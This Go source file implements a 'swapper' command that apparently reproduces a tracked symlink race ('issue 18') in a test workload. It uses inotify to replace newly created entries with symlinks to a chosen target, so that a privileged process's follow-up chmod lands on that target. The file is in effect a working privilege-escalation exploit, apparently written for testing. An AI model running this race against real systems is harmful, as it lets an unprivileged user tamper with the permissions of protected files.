package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

// runSwapper is the symlink race of issue 18, run as a user who may write
// DIR but nothing else of interest: it watches DIR (inotify) and puts a
// symlink to TARGET in place of every new entry the moment it appears, so
// that a privileged process that acts on the path after creating it (a
// chmod after bind) acts on TARGET instead. A new directory is moved
// aside first (rename(2) cannot put a symlink over a directory) and its
// symlink points at TARGET's directory. Its own entries are named swap-*.
// It prints "swapper ready" once watching and runs until killed.
//
//	workload swapper DIR TARGET
func runSwapper(args []string) error {
	if len(args) != 2 {
		return errors.New("usage: swapper DIR TARGET")
	}
	dir, target := args[0], args[1]
	fd, err := unix.InotifyInit1(unix.IN_CLOEXEC)
	if err != nil {
		return fmt.Errorf("inotify_init1: %w", err)
	}
	if _, err := unix.InotifyAddWatch(fd, dir, unix.IN_CREATE); err != nil {
		return fmt.Errorf("inotify_add_watch %s: %w", dir, err)
	}
	n := 0
	// spare is a symlink made ahead of time, so that a swap is one
	// rename(2) after the event.
	spare := func(to string) (string, error) {
		n++
		name := filepath.Join(dir, "swap-"+strconv.Itoa(n))
		return name, os.Symlink(to, name)
	}
	toFile, err := spare(target)
	if err != nil {
		return err
	}
	fmt.Println("swapper ready")
	buf := make([]byte, 64<<10)
	for {
		m, err := unix.Read(fd, buf)
		if errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil {
			return fmt.Errorf("read inotify: %w", err)
		}
		for off := 0; off+unix.SizeofInotifyEvent <= m; {
			ev := (*unix.InotifyEvent)(unsafe.Pointer(&buf[off]))
			nameBytes := buf[off+unix.SizeofInotifyEvent : off+unix.SizeofInotifyEvent+int(ev.Len)]
			off += unix.SizeofInotifyEvent + int(ev.Len)
			name := strings.TrimRight(string(nameBytes), "\x00")
			if name == "" || strings.HasPrefix(name, "swap-") {
				continue
			}
			path := filepath.Join(dir, name)
			if ev.Mask&unix.IN_ISDIR != 0 {
				if os.Rename(path, filepath.Join(dir, "swap-moved-"+strconv.Itoa(n))) == nil {
					if link, err := spare(filepath.Dir(target)); err == nil {
						os.Rename(link, path)
					}
				}
				continue
			}
			if os.Rename(toFile, path) == nil {
				if toFile, err = spare(target); err != nil {
					return err
				}
			}
		}
	}
}
